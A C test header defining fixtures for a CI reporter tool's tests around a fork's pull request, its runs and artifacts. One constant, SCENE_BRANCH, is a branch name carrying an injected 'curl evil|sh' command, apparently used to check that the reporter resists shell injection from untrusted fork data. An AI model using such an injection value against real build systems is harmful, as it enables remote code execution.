/* SPDX-License-Identifier: MIT */
/* A repository with a fork's pull request 7 and its runs, and the reporter run against it. */
#ifndef TESTS_CONTRACT_SCENE_H
#define TESTS_CONTRACT_SCENE_H

#include <jansson.h>

#include "common/buf.h"
#include "samples.h"
#include "stand_in.h"

#define SCENE_HEAD "ecf9e9af19c581f156188679cb2a9e8d458c9ba8"
#define SCENE_PREVIOUS "594f3ce2000000000000000000000000000000aa"
#define SCENE_MAIN "7d61f2a1000000000000000000000000000000bb"
#define SCENE_BRANCH "feature/x \"; curl evil|sh #"

/**
 * The state before the server starts and the event: a test changes them as it likes. Run
 * 5000 (number 50) of the head commit, 4500 (45) the one before it, 4000 (40) of main;
 * repository 100, fork 200. Each run has results of three platforms: ids 1-3, 11-13, 21-23;
 * artifact 31 is the history of main.
 */
struct scene {
    char folder[64];
    json_t *state, *event;
    struct stand_in *server; /**< after scene_start() */
    int status;              /**< exit status of the last run */
    struct buf out, err;     /**< what it printed */
    struct buf summary;      /**< the job summary */
    const char *token;       /**< NULL: the right one */
    const char *api_url;     /**< NULL: the server's */
};

/** cmocka: before and after each test. */
int scene_setup(void **state);
int scene_teardown(void **state);

/** Replace the archive of an artifact by one with this entry. */
void scene_file(struct scene *scene, unsigned int artifact, const char *entry, const void *data,
                size_t size_bytes);
void scene_result(struct scene *scene, unsigned int artifact, const struct sample *sample);

/** Entries of the state by id; fail the test when there is none. Borrowed. */
json_t *scene_artifact(struct scene *scene, unsigned int id);
json_t *scene_run(struct scene *scene, unsigned int id);
json_t *scene_pull(struct scene *scene);

/** Start the server with the state as it is. */
void scene_start(struct scene *scene);

/** Run the reporter with more arguments, one space between them, or NULL. Starts the server if
    need be. */
void scene_report(struct scene *scene, const char *arguments);

/** Run `tracetax-report baselines` into the scene's folder. */
void scene_baselines(struct scene *scene);

/** Run two reporters at the same time: attempts 1 and 2 of the same run. Both must end with 0. */
void scene_report_twice(struct scene *scene);

/** Text of the only comment with the marker: for free(). Fails the test on another number. */
char *scene_comment(struct scene *scene);

/** Checks. */
void scene_expect_status(const struct scene *scene, int status);
void scene_expect(const struct scene *scene, const struct buf *text, const char *part);
void scene_expect_not(const struct scene *scene, const struct buf *text, const char *part);
void scene_expect_text(const char *text, const char *part);

#endif
